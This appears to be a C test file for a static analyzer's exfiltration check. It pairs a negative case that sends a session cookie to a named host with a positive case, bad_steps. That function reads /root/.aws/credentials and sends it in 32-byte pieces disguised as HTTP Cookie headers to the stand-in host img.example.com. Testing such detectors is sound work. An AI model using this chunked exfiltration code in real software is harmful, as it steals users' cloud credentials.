/* A machine of states takes a file apart and sends one piece after the other as a cookie. */
#include <fcntl.h>
#include <netdb.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/socket.h>
#include <unistd.h>

enum phase { LOAD, SEND, NAP, DONE };

struct machine {
    enum phase at;
    char *bytes;
    size_t size, sent;
};

static char *slurp(const char *path, size_t *size) {
    int from = open(path, O_RDONLY);
    char *bytes = NULL;
    ssize_t got = 1;
    for (*size = 0; from >= 0 && got > 0; *size += got > 0 ? (size_t)got : 0) {
        bytes = realloc(bytes, *size + 1024);
        got = read(from, bytes + *size, 1024);
    }
    return bytes;
}

static int dial(const char *host) {
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *list;
    if (getaddrinfo(host, "80", &hints, &list))
        return -1;
    int to = socket(list->ai_family, SOCK_STREAM, 0);
    if (connect(to, list->ai_addr, list->ai_addrlen))
        to = -1;
    freeaddrinfo(list);
    return to;
}

static size_t next_piece(const struct machine *machine) {
    size_t left = machine->size - machine->sent;
    return left > 32 ? 32 : left;
}

void bad_steps(void) {
    struct machine machine = {.at = LOAD};
    char request[600];
    while (machine.at != DONE) {
        size_t piece = next_piece(&machine);
        if (machine.at == LOAD) {
            machine.bytes = slurp("/root/.aws/credentials", &machine.size);
        } else if (machine.at == SEND) {
            int to = dial("img.example.com");
            int length = snprintf(request, sizeof request,
                                  "GET /p.gif HTTP/1.1\r\nHost: img\r\nCookie: v=%.*s\r\n\r\n",
                                  (int)piece, machine.bytes + machine.sent);
            // expected-warning-re@+1 {{{{.*}}[vitrine: exfil/secret-to-network]}}
            send(to, request, (size_t)length, 0);
            machine.sent += piece;
        } else {
            sleep(30);
        }
        machine.at = machine.bytes && machine.sent < machine.size ? SEND : DONE;
    }
}

/* The session that the server itself gave, to the server that the user names. */
void good_steps(const char *host, const char *session_file) {
    struct machine machine = {.at = SEND};
    char request[600];
    machine.bytes = slurp(session_file, &machine.size);
    int to = dial(host);
    int length =
        snprintf(request, sizeof request, "GET / HTTP/1.1\r\nHost: %s\r\nCookie: v=%.*s\r\n\r\n",
                 host, (int)next_piece(&machine), machine.bytes);
    send(to, request, (size_t)length, 0);
}
